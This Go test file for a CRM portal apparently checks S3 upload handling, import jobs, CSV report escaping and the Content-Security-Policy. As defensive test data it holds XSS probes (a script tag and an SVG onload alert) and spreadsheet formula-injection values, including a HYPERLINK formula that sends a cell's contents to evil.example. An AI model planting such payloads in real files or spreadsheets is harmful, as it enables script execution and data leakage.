package apitest

import (
	"bytes"
	"context"
	"encoding/csv"
	"fmt"
	"io"
	"net/http"
	"os"
	"path/filepath"
	"reflect"
	"sort"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/aws/aws-lambda-go/events"
	"github.com/aws/aws-sdk-go-v2/aws"
	"github.com/aws/aws-sdk-go-v2/service/s3"

	"crmportal/infra/seed"
	"crmportal/shared/platform/s3client"
)

// fetchURL downloads a presigned link and fails the test unless S3 answers 200.
func fetchURL(t *testing.T, url string) []byte {
	t.Helper()
	resp, err := http.Get(url)
	if err != nil {
		t.Fatal(err)
	}
	defer resp.Body.Close()
	b, err := io.ReadAll(resp.Body)
	if err != nil || resp.StatusCode != http.StatusOK {
		t.Fatalf("GET %s: status %d, %v", url, resp.StatusCode, err)
	}
	return b
}

// TestAttachmentFormPostedAgainServesTheCheckedBytes: once an attachment is complete, posting
// its upload form again (it is valid for minutes more) changes nothing the portal or the
// console serves: the bytes downloaded are the ones the completion checked.
func TestAttachmentFormPostedAgainServesTheCheckedBytes(t *testing.T) {
	e := MustEnv(t)
	d := e.mustDemo(t)
	c := e.customer(t, d, e.demoContacts(t)[7])
	r := c.Do("POST", "/api/records/Cases", map[string]any{"fields": map[string]any{"Subject": "Troca depois da verificação"}})
	MustStatus(t, r, http.StatusCreated)
	var cs struct{ ID string }
	r.JSON(t, &cs)
	path := "/api/records/Cases/" + cs.ID + "/attachments"
	staffPath := "/api/admin/records/Cases/" + cs.ID + "/attachments"

	pdf := []byte("%PDF-1.7\n%%EOF\n") // 15 bytes
	r = c.Do("POST", path, map[string]any{"filename": "nota.pdf", "contentType": "application/pdf", "size": len(pdf)})
	MustStatus(t, r, http.StatusCreated)
	var up struct {
		Attachment attachmentJSON
		Upload     struct {
			URL    string
			Fields map[string]string
		}
	}
	r.JSON(t, &up)
	if code := postForm(t, up.Upload.URL, up.Upload.Fields, pdf); code >= 300 {
		t.Fatalf("upload: status %d", code)
	}
	id := up.Attachment.ID
	MustStatus(t, c.Do("POST", path+"/"+id+"/complete", nil), http.StatusOK)

	served := func(what string) {
		t.Helper()
		for _, side := range []struct {
			name string
			c    *client
			path string
		}{{"portal", c, path}, {"console", d.admin, staffPath}} {
			r := side.c.Do("GET", side.path+"/"+id, nil)
			MustStatus(t, r, http.StatusOK)
			var link struct{ URL string }
			r.JSON(t, &link)
			if got := fetchURL(t, link.URL); !bytes.Equal(got, pdf) {
				t.Errorf("%s: the %s serves %d bytes (%.20q), not the checked %d-byte PDF", what, side.name, len(got), got, len(pdf))
			}
		}
	}
	served("after completion")

	html := append([]byte("<html><script>alert(document.domain)</script>"), bytes.Repeat([]byte(" "), 100)...)
	for _, body := range []struct {
		name string
		b    []byte
	}{{"an HTML page", html}, {"15 MiB", bytes.Repeat([]byte("A"), 15<<20)}} {
		code := postForm(t, up.Upload.URL, up.Upload.Fields, body.b)
		t.Logf("the form posted again with %s: S3 answers %d", body.name, code)
		served("the form posted again with " + body.name)
	}
	// Completing again does not take the new upload either.
	r = c.Do("POST", path+"/"+id+"/complete", nil)
	MustStatus(t, r, http.StatusOK)
	var done attachmentJSON
	r.JSON(t, &done)
	if done.Size != int64(len(pdf)) || done.Status != "ready" {
		t.Errorf("completed again: %+v", done)
	}
	served("after a second completion")

	// A pending attachment deleted by its uploader takes its upload with it.
	r = c.Do("POST", path, map[string]any{"filename": "rascunho.pdf", "contentType": "application/pdf", "size": len(pdf)})
	MustStatus(t, r, http.StatusCreated)
	r.JSON(t, &up)
	if code := postForm(t, up.Upload.URL, up.Upload.Fields, pdf); code >= 300 {
		t.Fatalf("upload: status %d", code)
	}
	MustStatus(t, c.Do("DELETE", path+"/"+up.Attachment.ID, nil), http.StatusNoContent)
	if keys := e.objects(t, e.deps.Config.AttachmentsBucket, "uploads/attachments/"+seed.DemoOrgID+"/Cases/"+cs.ID+"/"+up.Attachment.ID); len(keys) != 0 {
		t.Errorf("the deleted pending attachment's upload is still there: %v", keys)
	}
}

// objects lists the keys under prefix in bucket.
func (e *env) objects(t *testing.T, bucket, prefix string) []string {
	t.Helper()
	out, err := s3client.New(e.deps).ListObjectsV2(context.Background(), &s3.ListObjectsV2Input{Bucket: aws.String(bucket), Prefix: aws.String(prefix)})
	if err != nil {
		t.Fatal(err)
	}
	var keys []string
	for _, o := range out.Contents {
		keys = append(keys, aws.ToString(o.Key))
	}
	return keys
}

// TestLogoFormPostedAgainServesTheCheckedLogo: once a logo is set, posting its upload form
// again changes nothing the console or the public page shows, and setting the same key again
// checks the new upload (refused here) without touching the logo in use.
func TestLogoFormPostedAgainServesTheCheckedLogo(t *testing.T) {
	e := MustEnv(t)
	o := e.MustOrg(t, "Logo trocado "+o0())
	admin := e.LoggedIn(t, o.AdminEmail, o.Password)
	MustStatus(t, admin.Do("POST", "/api/admin/portal", map[string]any{}), http.StatusCreated)

	r := admin.Do("POST", "/api/admin/portal/logo", map[string]string{"contentType": "image/png"})
	MustStatus(t, r, http.StatusCreated)
	var up struct {
		URL    string
		Fields map[string]string
		Key    string
	}
	r.JSON(t, &up)
	png := append([]byte{0x89, 'P', 'N', 'G', '\r', '\n', 0x1a, '\n'}, bytes.Repeat([]byte{3}, 300)...)
	if code := postForm(t, up.URL, up.Fields, png); code >= 300 {
		t.Fatalf("logo upload: status %d", code)
	}
	r = admin.Do("PATCH", "/api/admin/portal", map[string]any{"branding": map[string]string{"logoKey": up.Key}}, "If-Match", "1")
	MustStatus(t, r, http.StatusOK)
	var pt struct {
		Slug     string
		LogoURL  string
		Branding struct{ LogoKey string }
	}
	r.JSON(t, &pt)
	if !strings.HasPrefix(pt.Branding.LogoKey, up.Key) {
		t.Errorf("logoKey %q is not the upload's logo %q", pt.Branding.LogoKey, up.Key)
	}
	shown := func(what string) {
		t.Helper()
		var console struct{ LogoURL string }
		admin.Do("GET", "/api/admin/portal", nil).JSON(t, &console)
		if got := fetchURL(t, console.LogoURL); !bytes.Equal(got, png) {
			t.Errorf("%s: the console shows %d bytes (%.20q), not the checked logo", what, len(got), got)
		}
		settle() // the public page reads the portal by slug eventually consistently
		var pub struct{ LogoURL string }
		e.Client(t).Do("GET", "/api/p/"+pt.Slug, nil).JSON(t, &pub)
		if got := fetchURL(t, pub.LogoURL); !bytes.Equal(got, png) {
			t.Errorf("%s: the public page shows %d bytes (%.20q), not the checked logo", what, len(got), got)
		}
	}
	shown("after setting it")

	svg := []byte(`<svg xmlns="http://www.w3.org/2000/svg" onload="alert(document.domain)"/>`)
	code := postForm(t, up.URL, up.Fields, svg)
	t.Logf("the logo form posted again: S3 answers %d", code)
	shown("the form posted again")

	r = admin.Do("PATCH", "/api/admin/portal", map[string]any{"branding": map[string]string{"logoKey": up.Key}}, "If-Match", "2")
	MustStatus(t, r, http.StatusUnprocessableEntity)
	if f := r.Problem(t).fields(); len(f) != 1 || f[0] != "branding.logoKey" {
		t.Errorf("fields = %v, want [branding.logoKey]", f)
	}
	shown("the replaced upload set again")
}

// TestRefusedLogoAtCreationLeavesNothing: a portal created with a logo whose bytes are no
// image answers 422 naming branding.logoKey, creates no portal, and leaves neither the upload
// nor the copy that was checked in the bucket.
func TestRefusedLogoAtCreationLeavesNothing(t *testing.T) {
	e := MustEnv(t)
	o := e.MustOrg(t, "Logo recusado "+o0())
	admin := e.LoggedIn(t, o.AdminEmail, o.Password)
	svg := []byte(`<svg xmlns="http://www.w3.org/2000/svg" onload="alert(document.domain)"/>`)
	logoKey, code := uploadLogo(t, admin, "image/png", svg)
	if code >= 300 {
		t.Fatalf("logo upload: status %d", code)
	}
	bucket := e.deps.Config.AttachmentsBucket
	if keys := e.objects(t, bucket, "uploads/"+logoKey); len(keys) != 1 {
		t.Fatalf("the upload is not where the form wrote it: %v", keys)
	}
	r := admin.Do("POST", "/api/admin/portal", map[string]any{"branding": map[string]string{"logoKey": logoKey}})
	MustStatus(t, r, http.StatusUnprocessableEntity)
	if f := r.Problem(t).fields(); len(f) != 1 || f[0] != "branding.logoKey" {
		t.Errorf("fields = %v, want [branding.logoKey]", f)
	}
	MustStatus(t, admin.Do("GET", "/api/admin/portal", nil), http.StatusNotFound)
	for _, prefix := range []string{logoKey, "uploads/" + logoKey} {
		if keys := e.objects(t, bucket, prefix); len(keys) != 0 {
			t.Errorf("left in the bucket under %s: %v", prefix, keys)
		}
	}
}

// importEvents routes the stack's S3 notifications through hold: it receives each event
// and hands it to the gateway (true) or keeps it back (false). The next MustEnv restores
// the usual route.
func (e *env) importEvents(hold func(events.S3Event) bool) {
	st.OnS3Event(func(ev events.S3Event) {
		if hold(ev) {
			e.gw.HandleS3Event(ev)
		}
	})
}

// offer passes ev on to whoever waits on seen, never blocking the notification.
func offer(seen chan<- events.S3Event, ev events.S3Event) {
	select {
	case seen <- ev:
	default:
	}
}

// putFile sends body with an import job's presigned PUT and returns the object's ETag.
func putFile(t *testing.T, job importJob, body string) string {
	t.Helper()
	req, _ := http.NewRequest(job.Upload.Method, job.Upload.URL, strings.NewReader(body))
	for k, v := range job.Upload.Headers {
		req.Header.Set(k, v)
	}
	resp, err := http.DefaultClient.Do(req)
	if err != nil {
		t.Fatal(err)
	}
	resp.Body.Close()
	if resp.StatusCode != http.StatusOK {
		t.Fatalf("upload: status %d", resp.StatusCode)
	}
	return strings.Trim(resp.Header.Get("ETag"), `"`)
}

// eventFor waits for the notification of the object with etag (S3 sends it on its own
// time); a minute without it fails the test.
func eventFor(t *testing.T, seen <-chan events.S3Event, etag string) events.S3Event {
	t.Helper()
	timeout := time.After(time.Minute)
	for {
		select {
		case ev := <-seen:
			if strings.Trim(ev.Records[0].S3.Object.ETag, `"`) == etag {
				return ev
			}
		case <-timeout:
			t.Fatalf("no S3 event for the upload with ETag %s", etag)
		}
	}
}

// TestImportOfAReplacedFile: an import processes exactly the file its upload event names. An
// event whose file was replaced before the worker read it imports nothing (the replacement's
// own event imports the replacement), and once a job has run, a file sent again with its
// upload URL is neither imported nor changes the job.
func TestImportOfAReplacedFile(t *testing.T) {
	e := MustEnv(t)
	o := e.MustOrg(t, "Importa trocado")
	c := e.LoggedIn(t, o.UserEmail, o.Password)
	mapping := map[string]string{"Nome": "First_Name", "Sobrenome": "Last_Name"}
	file := func(surname string, n int) string {
		var b strings.Builder
		b.WriteString("Nome,Sobrenome\n")
		for i := range n {
			fmt.Fprintf(&b, "Pessoa %d,%s\n", i, surname)
		}
		return b.String()
	}
	contacts := func(surname string) int {
		t.Helper()
		var page struct{ Items []record }
		c.Do("GET", "/api/admin/records/Contacts?limit=100&filter.Last_Name="+surname, nil).JSON(t, &page)
		return len(page.Items)
	}
	newJob := func() importJob {
		t.Helper()
		r := c.Do("POST", "/api/admin/import/Contacts", map[string]any{"filename": "pessoas.csv", "mapping": mapping})
		MustStatus(t, r, http.StatusCreated)
		var job importJob
		r.JSON(t, &job)
		return job
	}
	stored := func(id string) (status, etag string, total int) {
		t.Helper()
		j, err := e.store.GetImportJob(context.Background(), o.ID, id)
		if err != nil {
			t.Fatal(err)
		}
		return j.Status, j.ETag, j.Total
	}

	t.Run("replaced before the worker read it", func(t *testing.T) {
		seen := make(chan events.S3Event, 16)
		e.importEvents(func(ev events.S3Event) bool { offer(seen, ev); return false }) // all held
		job := newJob()
		first := putFile(t, job, file("Primeira", 3))
		firstEv := eventFor(t, seen, first)
		second := putFile(t, job, file("Segunda", 5))
		secondEv := eventFor(t, seen, second)

		e.gw.HandleS3Event(firstEv) // the first upload's event, after its file was replaced
		e.gw.Wait()
		if status, etag, _ := stored(job.ID); status != "awaiting_upload" || etag != "" {
			t.Errorf("after the replaced file's event: job %s (etag %q), want awaiting_upload: nothing imported under another file's event", status, etag)
		}
		e.gw.HandleS3Event(secondEv)
		e.gw.Wait()
		if status, etag, total := stored(job.ID); status != "done" || etag != second || total != 5 {
			t.Errorf("after the replacement's event: job %s, etag %q, %d rows; want done, %q, 5", status, etag, total, second)
		}
		settle()
		if n, m := contacts("Primeira"), contacts("Segunda"); n != 0 || m != 5 {
			t.Errorf("contacts of the replaced file %d, of the replacement %d; want 0 and 5", n, m)
		}
	})

	t.Run("sent again after the job ran", func(t *testing.T) {
		seen := make(chan events.S3Event, 16)
		e.importEvents(func(ev events.S3Event) bool { offer(seen, ev); return true })
		job := newJob()
		first := putFile(t, job, file("Original", 4))
		eventFor(t, seen, first)
		e.gw.Wait()
		if status, etag, total := stored(job.ID); status != "done" || etag != first || total != 4 {
			t.Fatalf("job %s, etag %q, %d rows; want done, %q, 4", status, etag, total, first)
		}
		again := putFile(t, job, file("Reenviada", 7))
		eventFor(t, seen, again)
		e.gw.Wait()
		if status, etag, total := stored(job.ID); status != "done" || etag != first || total != 4 {
			t.Errorf("after the file was sent again: job %s, etag %q, %d rows; want it unchanged (done, %q, 4)", status, etag, total, first)
		}
		settle()
		if n, m := contacts("Original"), contacts("Reenviada"); n != 4 || m != 0 {
			t.Errorf("contacts of the first file %d, of the one sent again %d; want 4 and 0", n, m)
		}
	})
}

// TestImportReportCellsAreNotFormulas: the external ids of failed rows come out of the
// report neutralised as the audit export does it, so a spreadsheet shows them as text.
func TestImportReportCellsAreNotFormulas(t *testing.T) {
	e := MustEnv(t)
	o := e.MustOrg(t, "Importa fórmulas")
	c := e.LoggedIn(t, o.UserEmail, o.Password)
	ids := []struct{ in, want string }{
		{`=HYPERLINK("https://evil.example/?"&A1,"abrir")`, `'=HYPERLINK("https://evil.example/?"&A1,"abrir")`},
		{"+SUM(1)", "'+SUM(1)"},
		{"-1", "'-1"},
		{"@x", "'@x"},
		{"\t=tab", "'=tab"}, // the id is trimmed; what is left must not be a formula either
		{"\r+cr", "'+cr"},
		{"C001", "C001"},
	}
	var b bytes.Buffer
	w := csv.NewWriter(&b)
	_ = w.Write([]string{"Codigo", "Nome", "Sobrenome"})
	for i, id := range ids {
		_ = w.Write([]string{id.in, "Pessoa " + strconv.Itoa(i), ""}) // no Last_Name: the row fails
	}
	w.Flush()
	job := c.MustImport("Contacts", b.String(), map[string]string{"Nome": "First_Name", "Sobrenome": "Last_Name"}, "Codigo")
	if job.Status != "done" || job.Failed != len(ids) || job.ReportURL == "" {
		t.Fatalf("job = %+v, want done with %d failed rows and a report", job, len(ids))
	}
	rows, err := csv.NewReader(bytes.NewReader(fetchURL(t, job.ReportURL))).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	got := map[string]string{} // line -> external_id
	for _, row := range rows[1:] {
		got[row[0]] = row[1]
		for i, cell := range row {
			if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
				t.Errorf("line %s, column %s: %q opens as a formula", row[0], rows[0][i], cell)
			}
		}
	}
	for i, id := range ids {
		if line := strconv.Itoa(i + 2); got[line] != id.want {
			t.Errorf("external id %q: report has %q, want %q", id.in, got[line], id.want)
		}
	}
}

// TestWebCSPNamesTheBuckets: the web app's Content-Security-Policy lets it reach no host but
// its own and the storage it uses through presigned URLs, in the local gateway as in
// template.yaml's CloudFront policy, whose directives it mirrors.
func TestWebCSPNamesTheBuckets(t *testing.T) {
	e := MustEnv(t)
	resp, err := http.Get(e.srv.URL + "/admin") // the app's page, not the API (not in openapi.yaml)
	if err != nil {
		t.Fatal(err)
	}
	resp.Body.Close()
	local := directives(resp.Header.Get("Content-Security-Policy"))
	s3Origin := st.S3URL
	for _, d := range []string{"connect-src", "img-src"} {
		if !hasSource(local[d], s3Origin) {
			t.Errorf("%s %v does not name the S3 endpoint %s", d, local[d], s3Origin)
		}
	}
	for d, sources := range local {
		for _, s := range sources {
			if s == "https:" || s == "http:" || s == "*" || strings.HasPrefix(s, "https://*") {
				t.Errorf("%s allows any host (%s)", d, s)
			}
		}
	}
	if got := local["form-action"]; !reflect.DeepEqual(got, []string{"'self'"}) {
		t.Errorf("form-action %v, want 'self' only (the app's forms post nowhere)", got)
	}

	raw, err := os.ReadFile(filepath.Join("../..", "template.yaml"))
	if err != nil {
		t.Fatal(err)
	}
	// The folded block "- >-" of "ContentSecurityPolicy: !Sub": the lines indented deeper.
	var block []string
	indent := -1
	seen := false
	for _, line := range strings.Split(string(raw), "\n") {
		depth := len(line) - len(strings.TrimLeft(line, " "))
		switch {
		case strings.TrimSpace(line) == "ContentSecurityPolicy: !Sub":
			seen = true
		case seen && indent < 0 && strings.TrimSpace(line) == "- >-":
			indent = depth
		case indent >= 0 && depth > indent && strings.TrimSpace(line) != "":
			block = append(block, strings.TrimSpace(line))
		case indent >= 0 && len(block) > 0:
			indent, seen = -2, false // the block ended
		}
	}
	if len(block) == 0 {
		t.Fatal("template.yaml has no ContentSecurityPolicy: !Sub [>- block, variables]")
	}
	deployed := directives(strings.Join(block, " "))
	// The buckets' regional names, spelled from their names (see template.yaml).
	const attachments = "https://portal-attachments-${StackUuid}.s3.${AWS::Region}.${AWS::URLSuffix}"
	const imports = "https://portal-imports-${StackUuid}.s3.${AWS::Region}.${AWS::URLSuffix}"
	for _, d := range []string{"connect-src", "img-src"} {
		if !hasSource(deployed[d], attachments) {
			t.Errorf("template.yaml: %s %v does not name the attachments bucket", d, deployed[d])
		}
	}
	if !hasSource(deployed["connect-src"], imports) {
		t.Errorf("template.yaml: connect-src %v does not name the imports bucket", deployed["connect-src"])
	}
	// The same directives and sources, the buckets' origins being the local S3 endpoint.
	norm := func(p map[string][]string, storage func(string) bool) map[string][]string {
		out := map[string][]string{}
		for d, sources := range p {
			set := map[string]bool{}
			for _, s := range sources {
				if storage(s) {
					s = "<storage>"
				}
				set[s] = true
			}
			for s := range set {
				out[d] = append(out[d], s)
			}
			sort.Strings(out[d])
		}
		return out
	}
	gotLocal := norm(local, func(s string) bool { return s == s3Origin })
	gotDeployed := norm(deployed, func(s string) bool { return s == attachments || s == imports })
	if !reflect.DeepEqual(gotLocal, gotDeployed) {
		t.Errorf("the local CSP does not mirror template.yaml's:\nlocal    %v\ndeployed %v", gotLocal, gotDeployed)
	}
}

func hasSource(sources []string, s string) bool {
	for _, x := range sources {
		if x == s {
			return true
		}
	}
	return false
}

// directives reads a CSP into its directives' sources.
func directives(csp string) map[string][]string {
	out := map[string][]string{}
	for _, d := range strings.Split(csp, ";") {
		f := strings.Fields(d)
		if len(f) > 0 {
			out[f[0]] = f[1:]
		}
	}
	return out
}
